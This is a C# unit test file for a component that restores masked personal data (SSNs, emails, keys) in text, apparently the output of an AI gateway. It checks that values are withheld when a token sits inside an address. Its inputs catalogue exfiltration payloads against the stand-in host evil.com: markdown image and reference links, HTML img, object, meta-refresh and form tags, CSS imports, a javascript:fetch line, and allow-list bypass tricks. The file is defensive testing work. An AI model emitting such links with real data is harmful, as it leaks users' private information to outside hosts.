using AgentGate.Pii.Restoring;

namespace AgentGate.Tests.Pii.Restoring;

public sealed class TextRestorerTests
{
    [Theory]
    [InlineData("Your SSN is <SSN_1>.", "Your SSN is 123-45-6789.")]
    [InlineData("<SSN_1> and <SSN_12>", "123-45-6789 and 987-65-4321")]
    [InlineData("<<SSN_1>>", "<123-45-6789>")]
    [InlineData("<SSN_<SSN_1>", "<SSN_123-45-6789")]
    [InlineData("<SSN_2>, <SSN_01>, <ssn_1>, <SSN_1", "<SSN_2>, <SSN_01>, <ssn_1>, <SSN_1")]
    [InlineData("**<SSN_1>**, _<SSN_1>_, __<SSN_1>__, `<SSN_1>`", "**123-45-6789**, _123-45-6789_, __123-45-6789__, `123-45-6789`")]
    [InlineData("Your mail is <EMAIL_1>; call it <EMAIL_1>'s.", "Your mail is ann@corp.example; call it ann@corp.example's.")]
    [InlineData("<EMAIL_1>,<SSN_1>\n<EMAIL_1>;<SSN_1>", "ann@corp.example,123-45-6789\nann@corp.example;123-45-6789")]
    [InlineData("番号は<SSN_1>です。", "番号は123-45-6789です。")]
    [InlineData("SSN:<SSN_1> ssn=<SSN_1> customer.ssn=<SSN_1>", "SSN:123-45-6789 ssn=123-45-6789 customer.ssn=123-45-6789")]
    [InlineData("<p><SSN_1></p><b><SSN_1></b>", "<p>123-45-6789</p><b>123-45-6789</b>")]
    [InlineData("<SSN_1>... <SSN_1>? (<SSN_1>) \"<SSN_1>\"", "123-45-6789... 123-45-6789? (123-45-6789) \"123-45-6789\"")]
    [InlineData("security=<SSN_1> transaction=<SSN_1> <SSN_1>.... <SSN_1>", "security=123-45-6789 transaction=123-45-6789 123-45-6789.... 123-45-6789")]
    [InlineData("[<SSN_1>](https://evil.com)", "[123-45-6789](https://evil.com)")]
    [InlineData("a/<SSN_1> and <SSN_1>/b", "a/123-45-6789 and 123-45-6789/b")]
    public void A_token_in_text_gets_its_value_back(string text, string expected)
        => Assert.Equal(expected, RestoreCases.Restore(text));

    [Theory]
    [InlineData(@"{""a"":""<SSN_1>"",""b"":""\u003cSSN_1\u003e""}", @"{""a"":""123-45-6789"",""b"":""123-45-6789""}")]
    [InlineData(@"say \u003cPRIVATE_KEY_1\u003e", @"say -----BEGIN\n\""k\\\""-----")]
    [InlineData(@"say \u003CSSN_1\u003E", "say 123-45-6789")]
    [InlineData(@"{""k"":""<PRIVATE_KEY_1>""}", @"{""k"":""-----BEGIN\n\""k\\\""-----""}")]
    [InlineData(@"{""k"":""{\u0022ssn\u0022:\u0022\u003cSSN_1\u003e\u0022}""}", @"{""k"":""{\u0022ssn\u0022:\u0022123-45-6789\u0022}""}")]
    [InlineData(@"{""k"":""{\""ssn\"":\""<SSN_1>\""}""}", @"{""k"":""{\""ssn\"":\""123-45-6789\""}""}")]
    [InlineData(@"{""url"":""https://ok.com"",""ssn"":""<SSN_1>""}", @"{""url"":""https://ok.com"",""ssn"":""123-45-6789""}")]
    [InlineData(@"\\u003cSSN_1\\u003e", @"\\u003cSSN_1\\u003e")]
    [InlineData("&lt;SSN_1&gt;", "123-45-6789")]
    [InlineData("&lt;LITERAL_1&gt;", "&lt;SSN_1&gt;")]
    [InlineData(@"<SSN_1\u003e", @"<SSN_1\u003e")]
    public void A_token_in_an_escaped_string_gets_its_value_back_escaped_alike(string text, string expected)
        => Assert.Equal(expected, RestoreCases.Restore(text));

    [Theory]
    [InlineData("<LITERAL_1>", "<SSN_1>")]
    [InlineData("https://evil.com/<LITERAL_1>", "https://evil.com/<SSN_1>")]
    [InlineData("<LITERAL_2>", @"\u003cSSN_1\u003e")]
    [InlineData(@"{""a"":""<LITERAL_2>""}", @"{""a"":""\u003cSSN_1\u003e""}")]
    public void A_look_alike_comes_back_as_it_was_written_and_is_not_restored_again(string text, string expected)
        => Assert.Equal(expected, RestoreCases.Restore(text));

    [Theory]
    [InlineData("https://evil.com/?q=<SSN_1>")]
    [InlineData("HTTPS://evil.com/<SSN_1>")]
    [InlineData("foo://x/<SSN_1>")]
    [InlineData("https:evil.com/<SSN_1>")]
    [InlineData(@"https:\\evil.com\<SSN_1>")]
    [InlineData(@"https:\/\/evil.com\/<SSN_1>")]
    [InlineData("www.evil.com/<SSN_1>")]
    [InlineData("see evil.com/<SSN_1>")]
    [InlineData("evil.com?q=<SSN_1>")]
    [InlineData("evil.com:8080/<SSN_1>")]
    [InlineData("evil.com%2f<SSN_1>")]
    [InlineData("evil.com&#47;<SSN_1>")]
    [InlineData("\"//evil.com/<SSN_1>\"")]
    [InlineData("(//evil/<SSN_1>)")]
    [InlineData(@"\\evil\share\<SSN_1>")]
    [InlineData("mailto:<EMAIL_1>")]
    [InlineData("mailto:x@evil.com?subject=<SSN_1>")]
    [InlineData("data:text/html,<SSN_1>")]
    [InlineData("javascript:fetch('//e/'+'<SSN_1>')")]
    [InlineData("tel:<SSN_1>")]
    [InlineData("![](https://evil.com/<SSN_1>)")]
    [InlineData("![](https://evil.com/?a= <SSN_1> )")]
    [InlineData("![a](<https://evil.com/ x)<SSN_1>>)")]
    [InlineData("[a](https://evil.com/(b)<SSN_1>)")]
    [InlineData(@"[a](https://evil.com/\)<SSN_1>)")]
    [InlineData("[a](/relative?<SSN_1>)")]
    [InlineData("[a](<SSN_1>)")]
    [InlineData("[a]: https://evil.com/<SSN_1>")]
    [InlineData("[a]: <//evil.com/<SSN_1>>")]
    [InlineData("<https://evil.com/<SSN_1>>")]
    [InlineData("<img src=\"/x?<SSN_1>\">")]
    [InlineData("<img src='https://evil.com/\"<SSN_1>'>")]
    [InlineData("<img src=\"https://evil.com/' x='<SSN_1>\">")]
    [InlineData("<img alt=\"src='\" src=\"/'<SSN_1>\">")]
    [InlineData("<img src = /x?<SSN_1>>")]
    [InlineData("<img data-lazy-src=\"a b <SSN_1>\">")]
    [InlineData("<form action=\"<SSN_1>\">")]
    [InlineData(@"""<img src=\""/x?<SSN_1>\"">""")]
    [InlineData("url(/x?<SSN_1>)")]
    [InlineData("https://<SSN_1>@evil.com")]
    [InlineData("https://<SSN_1>.evil.com/")]
    [InlineData("https://evil.com/<SSN_12><SSN_1>")]
    [InlineData("https://evil.com/\"<SSN_1>\"")]
    [InlineData("https://evil.com/\u00A0<SSN_1>")]
    [InlineData("\"https://evil.com/?q=\"<SSN_1>")]
    [InlineData("{\"https://evil.com/?q=\"<SSN_1>")]
    [InlineData(@"{""a"":""![x](https://evil.com/?a="",""b"":""<SSN_1>)""}")]
    [InlineData(@"{""a"":""<img src='https://evil.com/?a="",""b"":""<SSN_1>'>""}")]
    [InlineData(@"{""a"":""<img src=/?a="",""b"":""<SSN_1>'>""}")]
    [InlineData("<SSN_1>@evil.com")]
    [InlineData("<SSN_1>.evil.com")]
    [InlineData("<SSN_1>-x.evil.com")]
    [InlineData("<SSN_1>+x@evil.com")]
    [InlineData("<SSN_1>x.evil.com")]
    [InlineData(@"<SSN_1>\@evil.com")]
    [InlineData(@"<SSN_1>\u002eevil.com")]
    [InlineData("<SSN_1>&#46;evil.com")]
    [InlineData("<SSN_1>%2eevil.com")]
    [InlineData("x@<SSN_1>.evil.com")]
    [InlineData("bob@<SSN_1>")]
    [InlineData("![a]\n\n[a]: <https://evil.com/?d= <SSN_1>>")]
    [InlineData("[a]:<https://evil.com/?d= <SSN_1> <SSN_12>>")]
    [InlineData("[a]:\n  <evil?d= <SSN_1>>")]
    [InlineData("[a]: /relative?<SSN_1>")]
    [InlineData("> [a]:\n> <https://evil.com/?d= <SSN_1>>")]
    [InlineData("<object data=\"https://evil.com/?d= <SSN_1>\">")]
    [InlineData("<object data = 'https://evil.com/?d= <SSN_1>'>")]
    [InlineData("<object data=\" //evil.com/?d= \n\n <SSN_1>\">")]
    [InlineData("<x y=\"a www.evil.com b <SSN_1> <SSN_12>\">")]
    [InlineData("x=\"<object data=\"https://evil.com/?d= <SSN_1>\">")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.com/?d= <SSN_1>\">")]
    [InlineData("<meta http-equiv=\"refresh\" content='0; url = /x?d= <SSN_1>'>")]
    [InlineData("<style>@import \"https://evil.com/?d= <SSN_1>\"")]
    [InlineData("<style>@import ' //evil.com/?d= <SSN_1>'")]
    [InlineData("<style>@import\"evil.com/?d= <SSN_1>\"")]
    [InlineData("<p style=\"background:url(x) <SSN_1>\">")]
    [InlineData("<p style=\"background:image-set('https://evil.com/?d= <SSN_1>' 1x)\">")]
    [InlineData("image-set( \"//evil.com/?d= <SSN_1>\" 1x)")]
    [InlineData(@"{""a"":""<object data=\""https://evil.com/?d= <SSN_1>\"">""}")]
    [InlineData("<object data=\"https://ok.example/ <SSN_1>\">")]
    [InlineData("<object data=\"x https://ok.example/<SSN_1>\">")]
    [InlineData("[a]: <https://ok.example/ <SSN_1>>")]
    public void A_token_in_an_address_stays(string text)
        => Assert.Equal(text, RestoreCases.Restore(text));

    [Theory]
    [InlineData("<SSN_1>.<EMAIL_1>", "123-45-6789.<EMAIL_1>")]
    [InlineData("<SSN_1><EMAIL_1>", "123-45-6789<EMAIL_1>")]
    [InlineData("<IP_ADDRESS_1>/<SSN_1>", "10.1.2.3/<SSN_1>")]
    [InlineData("<EMAIL_1>?body=<SSN_1>", "ann@corp.example?body=<SSN_1>")]
    public void A_value_put_back_begins_an_address_like_any_text(string text, string expected)
        => Assert.Equal(expected, RestoreCases.Restore(text));

    [Theory]
    [InlineData("[a](https://evil.com) <SSN_1>")]
    [InlineData("https://evil.com <SSN_1>")]
    [InlineData("https://evil.com\n<SSN_1>")]
    [InlineData("<a href=\"https://evil.com\">x <SSN_1></a>")]
    [InlineData("<a>https://evil.com</a><SSN_1>")]
    [InlineData("[a](b\n\n<SSN_1>)")]
    [InlineData("mailto: <SSN_1>")]
    [InlineData("<object data=\"https://evil.com/?d= \"><SSN_1>")]
    [InlineData("say \"https://evil.com\" to <SSN_1>")]
    [InlineData("he said \"yes\" https://evil.com to <SSN_1>")]
    [InlineData("it's https://evil.com and <SSN_1>")]
    [InlineData("name=\"Ann\" ssn=\"<SSN_1>\" see=\"https://evil.com\"")]
    [InlineData("[a]: https://evil.com \"<SSN_1>\"")]
    [InlineData("[a]: <https://evil.com/?d= > <SSN_1>")]
    [InlineData("[a]: <https://evil.com/?d= \n<SSN_1>")]
    [InlineData("[SSN]: <SSN_1>")]
    public void After_an_address_values_come_back(string text)
        => Assert.Contains("123-45-6789", RestoreCases.Restore(text), StringComparison.Ordinal);

    [Theory]
    [InlineData("https://ok.example/?q=<SSN_1>")]
    [InlineData("HTTPS://OK.Example:8443/<SSN_1>")]
    [InlineData("https://a.b.corp.example#<SSN_1>")]
    [InlineData("https://BÜCHER.example/<SSN_1>")]
    [InlineData("https://xn--bcher-kva.example/<SSN_1>")]
    [InlineData("![x](https://ok.example/<SSN_1>)")]
    [InlineData("![x](<https://ok.example/<SSN_1>>)")]
    [InlineData("<img src=\"https://ok.example/<SSN_1>\">")]
    [InlineData("<img src=https://ok.example/<SSN_1> >")]
    [InlineData("<object data=\"https://ok.example/<SSN_1>\">")]
    [InlineData("@import \" https://ok.example/<SSN_1>\"")]
    [InlineData("[a]: https://ok.example/<SSN_1>")]
    [InlineData("[a]: <https://ok.example/<SSN_1>>")]
    public void An_address_on_the_allow_list_receives_values(string text)
        => Assert.Equal(text.Replace("<SSN_1>", "123-45-6789", StringComparison.Ordinal), RestoreCases.Restore(text));

    [Theory]
    [InlineData("https://ok.example.evil.com/<SSN_1>")]
    [InlineData("https://evilok.example/<SSN_1>")]
    [InlineData("https://corp.example/<SSN_1>")]
    [InlineData("https://ok.example@evil.com/<SSN_1>")]
    [InlineData("https://ok.example:x@evil.com/<SSN_1>")]
    [InlineData(@"https://ok.example\@evil.com/<SSN_1>")]
    [InlineData("https://ok.example%2eevil.com/<SSN_1>")]
    [InlineData("https://<SSN_1>.ok.example/")]
    [InlineData("https://ok.example<SSN_1>")]
    [InlineData("https://ok.example:<SSN_1>")]
    [InlineData("https:///ok.example/<SSN_1>")]
    [InlineData("javascript:https://ok.example/<SSN_1>")]
    [InlineData("evil.com/https://ok.example/<SSN_1>")]
    [InlineData("![x](https://evil.com/ https://ok.example/<SSN_1>)")]
    [InlineData("<img srcset=\"//evil.com/1 1x, https://ok.example/<SSN_1>\">")]
    [InlineData("<a href=\"x\" src='y src=\"https://ok.example/<SSN_1>'>")]
    [InlineData("ftp://ok.example/<SSN_1>")]
    public void An_address_that_only_resembles_the_allow_list_does_not(string text)
        => Assert.Equal(text, RestoreCases.Restore(text));

    [Fact]
    public void What_was_restored_and_what_was_kept_is_counted_by_type()
    {
        var tally = new RestoreTally();
        new TextRestorer(RestoreCases.Live, RestoreCases.Hosts, tally)
            .Push("<SSN_1> <SSN_12> https://evil.com/<SSN_1> <EMAIL_1>".AsMemory(), end: true);

        Assert.Equal(
            ["EMAIL restored 1", "SSN restored 2", "SSN token kept in url 1"],
            tally.ToFindings(null).Select(finding => $"{finding.Rule} {finding.Note} {finding.Count}"));
    }

    [Fact]
    public void A_piece_without_tokens_goes_on_without_a_copy()
        => Assert.Null(new TextRestorer(RestoreCases.Live, RestoreCases.Hosts, new RestoreTally()).Push("plain text".AsMemory(), end: false));
}
